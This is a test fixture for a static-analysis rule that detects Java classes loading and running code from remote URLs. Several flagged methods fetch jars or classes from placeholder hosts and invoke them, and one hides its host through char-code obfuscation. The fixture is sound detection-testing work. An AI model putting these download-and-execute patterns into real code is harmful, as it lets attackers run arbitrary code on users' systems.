// Fixture for java-remote-class-loader.
// RULEID: URL(protocol, host, port, file) built from char codes fed to URLClassLoader then
// loadClass; an https literal in the array; a variable holding an http URL passed to
// URLClassLoader.newInstance then Class.forName.
// OK: a plug-in folder loader (file.toURI().toURL()); a "jar:file:" URL; a classloader for an
// http URL that only reads a resource (no class is loaded).
import java.io.File;
import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLClassLoader;

public class Loaders {
    private static String s(int... cs) {
        StringBuilder b = new StringBuilder();
        for (int c : cs) b.append((char) c);
        return b.toString();
    }

    static void stage0() throws Exception {
        String host = s(49, 57, 56, 46, 53, 49);
        URL src = new URL(s(104, 116, 116, 112), host, 8080, s(47, 100, 108));
        // ruleid: java-remote-class-loader
        URLClassLoader loader = new URLClassLoader(new URL[] {src}, Loaders.class.getClassLoader());
        Class<?> stage = loader.loadClass("Utility");
        Method run = stage.getMethod("run", String.class);
        run.invoke(null, "x");
    }

    static Object update() throws Exception {
        // ruleid: java-remote-class-loader
        Class<?> c = new URLClassLoader(new URL[] {new URL("https://updates.example/agent.jar")}).loadClass("agent.Main");
        return c.getDeclaredConstructor().newInstance();
    }

    static void beacon() throws Exception {
        URL u = new URL("http://198.51.100.7/" + "c.jar");
        // ruleid: java-remote-class-loader
        ClassLoader cl = URLClassLoader.newInstance(new URL[] {u});
        Class.forName("c.Boot", true, cl).getMethod("main", String[].class).invoke(null, (Object) new String[0]);
    }

    static void plugins(File dir) throws Exception {
        for (File jar : dir.listFiles()) {
            // ok: java-remote-class-loader
            URLClassLoader loader = new URLClassLoader(new URL[] {jar.toURI().toURL()});
            loader.loadClass("plugin.Entry");
        }
    }

    static void nested(String path) throws Exception {
        // ok: java-remote-class-loader
        URLClassLoader loader = new URLClassLoader(new URL[] {new URL("jar:file:" + path + "!/")});
        loader.loadClass("nested.Entry");
    }

    static java.io.InputStream schema() throws Exception {
        // ok: java-remote-class-loader
        URLClassLoader res = new URLClassLoader(new URL[] {new URL("https://schemas.example/")});
        return res.getResourceAsStream("schema.xsd");
    }
}
